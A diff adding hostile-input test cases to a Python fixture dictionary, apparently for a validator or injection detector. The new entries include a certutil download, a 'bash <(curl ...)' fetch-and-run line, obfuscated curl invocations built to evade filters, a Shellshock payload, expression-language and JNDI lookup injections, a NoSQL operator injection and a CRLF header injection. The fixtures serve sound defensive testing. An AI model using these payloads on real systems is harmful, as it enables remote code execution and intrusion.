@@ -212,6 +212,17 @@ EXAMPLES: dict[str, tuple[str, Leg]] = {
     "url.file": ("file:///etc/hosts", A),
     "url.script": ("[details](javascript:fetch('/x'))", R),
     "path.null": ("report.pdf\x00.png", A),
+    "command.windows_fetch": ("certutil -urlcache -f https://a.example/a a", A),
+    "command.blanks": ("cat${IFS}/srv/a", A),
+    "command.braces": ("{curl,-s,a.example}", A),
+    "command.quoted_name": ("c''url a.example", A),
+    "command.escaped_name": (r"$'\x63\x75\x72\x6c' a.example", A),
+    "command.fetched": ("bash <(curl -s a.example)", A),
+    "command.function_variable": ("x='() { :;}; id'", A),
+    "command.expression_language": ("*{T(java.lang.Math)}", A),
+    "command.lookup": ("${${lower:j}ndi:ldap://a.example}", A),
+    "command.operator": ('{"$ne": null}', A),
+    "header.injected": ("a\r\nBcc: b@a.example", A),
 }
 
 
